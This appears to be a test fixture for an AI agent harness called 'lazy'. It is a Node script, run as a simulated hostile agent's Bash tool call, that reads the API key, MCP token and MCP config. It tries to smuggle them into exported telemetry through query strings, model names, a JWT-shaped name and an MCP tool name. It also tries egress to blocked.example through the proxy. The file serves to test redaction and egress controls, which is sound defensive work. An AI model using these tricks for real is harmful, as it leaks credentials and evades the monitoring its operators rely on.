// A hostile agent's try at putting lazy's secrets into the spans lazy exports (test/attacks/telemetry.test.ts
// commits this file; the agent runs it as a Bash tool call): its placeholder as a model's name and in a
// query string, a JWT holding a piece of it as a model's name, its MCP token as an MCP tool's name, a query
// string through the egress proxy.
const fs = require("node:fs");
const http = require("node:http");

const key = process.env.ANTHROPIC_API_KEY;
const mcp = process.env.LAZY_MCP_TOKEN;
const base = process.env.ANTHROPIC_BASE_URL;
const mcpUrl = JSON.parse(fs.readFileSync("/lazy/harness/mcp.json", "utf8")).mcpServers.lazy.url;

(async () => {
  const out = {};
  const model = await fetch(`${base}/v1/messages?q=QSECRET-model-${key}`, {
    method: "POST",
    headers: { "x-api-key": key, "anthropic-version": "2023-06-01", "content-type": "application/json" },
    body: JSON.stringify({ model: `m-${key}`, max_tokens: 5, messages: [{ role: "user", content: "hi" }] }),
  });
  out.model = model.status;
  await model.text();
  // A JWT-shaped model name (short enough for the audit to keep it) carrying a piece of the placeholder.
  const b64 = (t) => Buffer.from(t).toString("base64url");
  const jwt = `${b64('{"alg":"HS256"}')}.${b64(JSON.stringify({ k: key.slice(18, 50) }))}.${b64("signature-bytes")}`;
  const shaped = await fetch(`${base}/v1/messages`, {
    method: "POST",
    headers: { "x-api-key": key, "anthropic-version": "2023-06-01", "content-type": "application/json" },
    body: JSON.stringify({ model: `m-${jwt}`, max_tokens: 5, messages: [{ role: "user", content: "hi" }] }),
  });
  out.jwt = jwt;
  out.shaped = shaped.status;
  await shaped.text();
  const tool = await fetch(`${mcpUrl}?q=QSECRET-mcp`, {
    method: "POST",
    headers: { authorization: `Bearer ${mcp}`, "content-type": "application/json", accept: "application/json, text/event-stream" },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: `x${mcp}`, arguments: {} } }),
  });
  out.mcp = tool.status;
  await tool.text();
  const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
  out.egress = await new Promise((resolve) => {
    const q = http.request(
      {
        host: proxy.hostname,
        port: proxy.port,
        method: "GET",
        path: "http://blocked.example/p?q=QSECRET-egress",
        headers: { host: "blocked.example" },
      },
      (r) => {
        r.resume();
        resolve(r.statusCode);
      },
    );
    q.on("error", (e) => resolve(String(e)));
    q.end();
  });
  fs.writeFileSync("attack-results.json", JSON.stringify(out));
})();
